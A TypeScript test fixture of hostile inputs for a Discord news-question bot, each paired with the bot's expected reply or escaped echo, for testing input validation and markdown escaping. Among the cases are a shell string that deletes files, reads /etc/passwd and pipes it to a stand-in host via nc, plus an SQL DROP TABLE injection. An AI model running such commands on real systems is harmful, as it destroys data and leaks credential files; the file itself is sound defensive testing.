// Questions and option values a public server will send, each with what the bot must reply: shared by the
// in-process tests (test/reliability/hostile-input.test.ts) and the end-to-end ones.
export const ICC = 'who called for an ICC investigation?';
const NOT_A_QUESTION = "**The articles don't say.** That is not a question I can look up: ask about something in the articles.";

export interface Case {
  readonly name: string;
  readonly question: string;
  /** The reply, when it is a short message rather than an answer. */
  readonly reply?: string;
  /** What the answer's first line shows of the question (after "**Q:** "). */
  readonly echo?: string;
  /** A line the answer's description holds besides. */
  readonly says?: string;
}

const padded = (n: number) => `${ICC} ${'and more words about it '.repeat(20)}`.slice(0, n);

export const CASES: readonly Case[] = [
  { name: 'empty', question: '', reply: 'The `question` option needs at least 1 character.' },
  { name: 'whitespace only', question: ' \t  ', says: NOT_A_QUESTION },
  { name: 'punctuation only', question: '?!…—;:()', says: NOT_A_QUESTION },
  { name: 'one character', question: 'a', says: NOT_A_QUESTION },
  { name: 'one letter, not a word', question: 'x', says: NOT_A_QUESTION },
  { name: 'the longest allowed (300)', question: padded(300), echo: padded(300).trim() },
  { name: 'one over (301)', question: padded(301), reply: 'The `question` option is too long: 301 characters, and the most is 300. Please shorten it and try again.' },
  { name: 'far over (100,000)', question: 'x'.repeat(100_000), reply: 'The `question` option is too long: 100000 characters, and the most is 300. Please shorten it and try again.' },
  { name: 'emoji', question: `🇫🇷 👨‍👩‍👧 ${ICC} 🔥`, echo: `🇫🇷 👨‍👩‍👧 ${ICC} 🔥` },
  // 300 characters as Discord counts them, 600 UTF-16 units: allowed.
  { name: '300 emoji', question: '😀'.repeat(300), says: NOT_A_QUESTION },
  { name: 'right-to-left script', question: 'من دعا إلى تحقيق المحكمة الجنائية الدولية؟', echo: 'من دعا إلى تحقيق المحكمة الجنائية الدولية؟' },
  { name: 'right-to-left override', question: `\u202Eevil\u202C ${ICC}`, echo: `evil ${ICC}` },
  { name: 'combining-mark flood', question: `Z${'\u0336\u0335\u0334'.repeat(80)} ${ICC}`, echo: `Z\u0336\u0335\u0334 ${ICC}` },
  { name: 'control characters', question: `\u0001\u0007who\u001bcalled\u0008 for an ICC investigation?`, echo: ICC },
  { name: 'NUL', question: `who\u0000 called for an ICC investigation?`, echo: ICC },
  { name: 'half surrogate pairs', question: `\uD83D ${ICC} \uDE00`, echo: `\uFFFD ${ICC} \uFFFD` },
  { name: 'zero-width characters', question: `\u200B\u200Bwho\uFEFF called for an ICC investigation?`, echo: ICC },
  { name: 'line breaks', question: 'who\ncalled\r\nfor an ICC\u2028investigation?', echo: ICC },
  { name: 'markdown bomb', question: '**__~~||`#>-[x](http://e.x) *'.repeat(8), echo: '\\*\\*\\_\\_\\~\\~\\|\\|\\`\\#\\>\\-\\[x\\](http://e.x) \\*'.repeat(8) },
  { name: 'mentions', question: `@everyone @here <@&456> <@123> <#789> ${ICC}`, echo: `@everyone @here \\<@&456\\> \\<@123\\> \\<\\#789\\> ${ICC}` },
  { name: 'a link with markup in it', question: 'https://evil.example/?q=<@123>&x=`1`', echo: 'https://evil.example/?q=\\<@123\\>&x=\\`1\\`' },
  { name: 'a code block', question: '```js\nprocess.exit(1)\n``` who called', echo: '\\`\\`\\`js process.exit(1) \\`\\`\\` who called' },
  { name: 'SQL', question: `'; DROP TABLE articles; -- ${ICC}`, echo: `'; DROP TABLE articles; \\-\\- ${ICC}` },
  { name: 'shell', question: '$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1 ; who called', echo: '$(rm \\-rf /) \\`reboot\\` && cat /etc/passwd \\| nc evil 1 ; who called' },
  { name: 'timestamp and emoji markup', question: '<t:0:R> <:x:1> <a:y:2> who called', echo: '\\<t:0:R\\> \\<:x:1\\> \\<a:y:2\\> who called' },
];
